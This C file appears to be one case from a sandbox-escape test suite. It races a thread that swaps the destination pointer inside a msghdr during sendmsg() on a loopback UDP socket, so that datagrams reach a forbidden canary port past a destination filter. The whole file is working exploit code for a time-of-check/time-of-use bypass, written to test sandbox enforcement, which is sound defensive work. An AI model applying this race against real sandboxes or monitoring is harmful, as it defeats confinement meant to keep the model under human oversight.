/* R05: sendmsg() on an unconnected UDP socket; a sibling thread flips the
 * msg_name pointer (not the bytes: the pointer inside the msghdr) between
 * the decoy's address and the canary's. Only the canary can tell a win:
 * it must receive nothing. */
#include "escape.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static struct sockaddr_in good, bad;
static struct msghdr mh;

static void to_bad(void *unused)
{
	(void)unused;
	mh.msg_name = &bad;
}

static void to_good(void *unused)
{
	(void)unused;
	mh.msg_name = &good;
}

int attack(int argc, char **argv)
{
	static struct racer r = { .bad = to_bad, .good = to_good };
	struct iovec iov = { "x", 1 };
	pthread_t t;
	long sent = 0, i;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	if (s < 0)
		return result(-1), 1;
	good.sin_family = bad.sin_family = AF_INET;
	good.sin_addr.s_addr = bad.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	good.sin_port = htons((in_port_t)atoi(ARG("udport")));
	bad.sin_port = htons((in_port_t)atoi(ARG("uport")));
	mh.msg_name = &good;
	mh.msg_namelen = sizeof(good);
	mh.msg_iov = &iov;
	mh.msg_iovlen = 1;
	/* one plain attempt with the bad value first: the denial the record
	 * must show, whatever the race does (escape.h, "The racer") */
	mh.msg_name = &bad;
	if (sendmsg(s, &mh, MSG_DONTWAIT) == 1)
		say("the plain attempt was sent");
	mh.msg_name = &good;
	pthread_create(&t, NULL, racer_thread, &r);
	for (i = 0; i < RACE_N; i++)
		sent += sendmsg(s, &mh, MSG_DONTWAIT) == 1;
	racer_stop(&r);
	pthread_join(t, NULL);
	say("SENT %ld", sent);
	wins(0, i); /* the canary counts the real wins */
	return 0;
}
